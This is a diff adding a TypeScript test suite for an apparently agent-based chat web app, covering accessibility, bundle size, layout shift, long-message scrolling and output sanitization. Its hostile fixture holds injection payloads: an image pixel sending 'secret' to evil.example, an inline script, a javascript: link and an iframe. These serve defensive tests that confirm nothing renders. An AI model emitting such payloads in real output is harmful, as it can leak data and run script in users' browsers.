@@ -1,0 +1,205 @@
+// What can be measured of how it looks: accessibility on every page in both themes, how much script a first load fetches, that nothing
+// jumps when a card appears, that ten thousand messages scroll, and that nothing an agent writes reaches another host.
+
+import { readFileSync, readdirSync } from "node:fs";
+import { join } from "node:path";
+import { gzipSync } from "node:zlib";
+import { AxeBuilder } from "@axe-core/playwright";
+import type { Page } from "playwright-core";
+import { expect, test } from "vitest";
+import { offlineModel } from "../../src/agent/models/offline.ts";
+import { scriptedModel } from "../../src/agent/models/scripted.ts";
+import { routes } from "../../src/wire/http.ts";
+import { stage } from "./browser.ts";
+import { builtPages } from "./server.ts";
+
+const HOSTILE = [
+  "# A heading",
+  "![pixel](https://evil.example/a.png?d=secret) [a link](https://evil.example/x) <img src='https://evil.example/b.png'> <script>document.title='owned'</script>",
+  "<a href='javascript:document.title=1'>press</a> <iframe src='https://evil.example'></iframe> https://evil.example/bare",
+  "```js\nconst a = 1;\n```",
+  "| a | b |\n| - | - |\n| 1 | 2 |",
+].join("\n\n");
+const offline = offlineModel();
+const hostile = scriptedModel(() => HOSTILE);
+const on = stage({
+  model: {
+    name: offline.name,
+    turn: (prompt, running) => {
+      const said = prompt.transcript.findLast(({ role }) => role === "person")?.text;
+      return (said === "be hostile" ? hostile : offline).turn(prompt, running);
+    },
+  },
+});
+const place = (path: string): string => on.server.tree.path(`home/code/${path}`);
+
+async function finished(chat: string): Promise<void> {
+  await expect.poll(async () => (await on.server.client.send(routes.chat, { id: chat })).status).not.toBe("running");
+}
+
+async function said(text: string): Promise<{ readonly id: string; readonly session: string }> {
+  const chat = await on.chat();
+  await on.server.client.send(routes.say, { id: chat.id, body: { text } });
+  await finished(chat.id);
+  return chat;
+}
+
+async function isAccessible(page: Page): Promise<void> {
+  const { violations } = await new AxeBuilder({ page }).analyze();
+  const grave = violations.filter(({ impact }) => impact === "serious" || impact === "critical");
+  expect(
+    grave.map(
+      ({ id, nodes }) => `${id}: ${nodes.map(({ target, failureSummary }) => `${target.join(" ")} ${failureSummary ?? ""}`).join(" | ")}`,
+    ),
+  ).toEqual([]);
+}
+
+/** Go somewhere, wait until nothing is inert (contrast is measured as it is read), and look. */
+async function visit(page: Page, where: string, ready: string): Promise<void> {
+  await page.goto(`${on.server.address}/#${where}`);
+  await page.locator(ready).first().waitFor();
+  await page.waitForTimeout(550);
+  await isAccessible(page);
+}
+
+for (const colorScheme of ["light", "dark"] as const) {
+  test(`axe finds nothing serious in a chat, its card and what opens from it, ${colorScheme}`, async () => {
+    const chat = await said(`Read ${place("api/package.json")}`);
+    const { page, faults } = await on.open("/inbox", { colorScheme, reducedMotion: "reduce" });
+    await visit(page, `/chat/${chat.id}`, "[data-ask]");
+    await page.getByRole("button", { name: /X-ray/ }).click();
+    await page.getByRole("dialog").getByText("package.json").first().waitFor();
+    await isAccessible(page);
+    await page.keyboard.press("Escape");
+    await page.getByRole("button", { name: "More" }).click();
+    await page.getByRole("menuitem").first().waitFor();
+    await isAccessible(page);
+    await page.keyboard.press("Escape");
+    await page.getByRole("button", { name: /workspace only/ }).click();
+    await page.getByRole("heading", { name: "Mounts" }).waitFor();
+    await page.getByRole("button", { name: "Deny", exact: false }).first().click();
+    await page.getByText("Denied reading").first().waitFor();
+    await isAccessible(page);
+    expect(faults).toEqual([]);
+  });
+
+  test(`axe finds nothing serious on the other pages, ${colorScheme}`, async () => {
+    const chat = await said(`Read ${place("docs/guide.md")}`);
+    const hostileChat = await said("be hostile");
+    const { page, faults } = await on.open("/inbox", { colorScheme, reducedMotion: "reduce" });
+    await visit(page, "/inbox", "[data-ask]");
+    await visit(page, `/chat/${hostileChat.id}`, ".prose h1");
+    await visit(page, `/session/${chat.session}`, "#outside");
+    await visit(page, "/policy", "[aria-label=Layers]");
+    await visit(page, "/audit", "[aria-label=Timeline] li");
+    await visit(page, "/new", "#directory");
+    await on.server.client.send(routes.cancel, { id: chat.id });
+    expect(faults).toEqual([]);
+  });
+}
+
+test("the first load of the inbox fetches less than 250 KB of script, compressed, and nothing from elsewhere", async () => {
+  const pages = await builtPages();
+  const { page, context, faults } = await on.open("/inbox");
+  const fetched: string[] = [];
+  page.on("request", (request) => fetched.push(new URL(request.url()).pathname));
+  await context.clearCookies();
+  await page.reload();
+  await page.getByRole("heading", { name: "Inbox" }).waitFor();
+  await page.waitForTimeout(300);
+  const scripts = [...new Set(fetched.filter((path) => path.endsWith(".js")))];
+  const bytes = scripts.reduce((sum, path) => sum + gzipSync(readFileSync(join(pages, path))).length, 0);
+  expect(scripts.length).toBeGreaterThan(0);
+  expect(bytes).toBeLessThan(250 * 1024);
+  console.log(`first load of the inbox: ${Math.round(bytes / 1024)} KB of script in ${scripts.length} files, gzipped`);
+  expect(faults).toEqual([]);
+});
+
+test("the built pages hold no inline script and name no other host", async () => {
+  const pages = await builtPages();
+  const html = readFileSync(join(pages, "index.html"), "utf8");
+  expect(html).not.toMatch(/<script(?![^>]*\bsrc=)/);
+  expect(html).not.toMatch(/https?:\/\//);
+  for (const name of readdirSync(join(pages, "assets")).filter((file) => file.endsWith(".css")))
+    expect(readFileSync(join(pages, "assets", name), "utf8")).not.toMatch(/url\(["']?https?:/);
+});
+
+test("nothing jumps when a card appears", async () => {
+  const chat = await said("What can you read and write?");
+  const { page, say } = await on.open(`/chat/${chat.id}`);
+  await page.locator(".prose").first().waitFor();
+  await page.waitForTimeout(400);
+  await page.evaluate(() => {
+    const shifts: number[] = [];
+    Object.assign(window, { shifts });
+    new PerformanceObserver((list) => {
+      // Within half a second of a key or a click a shift is the person's own doing; an ask comes later than that.
+      for (const entry of list.getEntries()) if ("value" in entry && typeof entry.value === "number") shifts.push(entry.value);
+    }).observe({ type: "layout-shift", buffered: false });
+  });
+  await say(`Read ${place("api/package.json")}`);
+  await page.locator('[data-ask][data-state="open"]').waitFor();
+  await page.waitForTimeout(600);
+  const shifts: unknown = await page.evaluate(() => Reflect.get(window, "shifts"));
+  const sum = Array.isArray(shifts) ? shifts.reduce((total: number, one) => total + Number(one), 0) : Number.NaN;
+  console.log(`layout shift while a card appears: ${sum.toFixed(4)}`);
+  expect(sum).toBeLessThan(0.1);
+});
+
+test("ten thousand messages: the end is there at once, scrolling up fetches the rest, and few of them are in the page", async () => {
+  const chat = await on.chat();
+  const { store } = on.server.inside();
+  const start = Date.now() - 10_000_000;
+  for (let number = 0; number < 10_000; number += 1) {
+    const common = { id: `message-${number}`, at: start + number * 1000, text: `message number ${number}` };
+    const isPerson = number % 2 === 0;
+    await store.append(
+      chat.id,
+      isPerson ? { role: "person", ...common } : { role: "agent", ...common, calls: [], usage: null, error: null },
+      "idle",
+    );
+  }
+  console.log(`10,000 messages written in ${Date.now() - start - 10_000_000} ms`);
+  const { page, faults } = await on.open(`/chat/${chat.id}`);
+  await page.getByText("message number 9999").waitFor();
+  const inPage = (): Promise<number> => page.evaluate(() => document.querySelectorAll("[role=log] .py-2").length);
+  expect(await inPage()).toBeLessThan(120);
+  const list = page.getByRole("log");
+  const began = Date.now();
+  while (!(await page.getByText("message number 0", { exact: true }).isVisible()) && Date.now() - began < 25_000) {
+    await list.evaluate((element) => {
+      element.scrollTop = 0;
+    });
+    await page.waitForTimeout(60);
+  }
+  await page.getByText("message number 0", { exact: true }).waitFor();
+  console.log(`to the first of 10,000 messages: ${Date.now() - began} ms`);
+  expect(await inPage()).toBeLessThan(120);
+  const frames = await list.evaluate(async (element) => {
+    const times: number[] = [];
+    let last = performance.now();
+    for (let frame = 0; frame < 40; frame += 1) {
+      element.scrollTop += 900;
+      await new Promise(requestAnimationFrame);
+      times.push(performance.now() - last);
+      last = performance.now();
+    }
+    return times.sort((a, b) => a - b);
+  });
+  console.log(`scrolling 900 px a frame: median ${(frames[20] ?? 0).toFixed(1)} ms`);
+  expect(frames[20]).toBeLessThan(100);
+  await page.getByRole("button", { name: "newest" }).click();
+  await page.getByText("message number 9999").waitFor();
+  expect(faults).toEqual([]);
+}, 60_000);
+
+test("nothing an agent writes becomes a link, a picture or a script, or reaches another host", async () => {
+  const chat = await said("be hostile");
+  const { page, faults } = await on.open(`/chat/${chat.id}`);
+  const prose = page.locator(".prose").last();
+  await prose.locator("h1").waitFor();
+  expect(await prose.locator("a, img, script, iframe, video, audio, object, form, button").count()).toBe(0);
+  expect(await prose.innerText()).toContain("[Image blocked: pixel]");
+  expect(await page.title()).not.toContain("owned");
+  expect(faults).toEqual([]);
+});
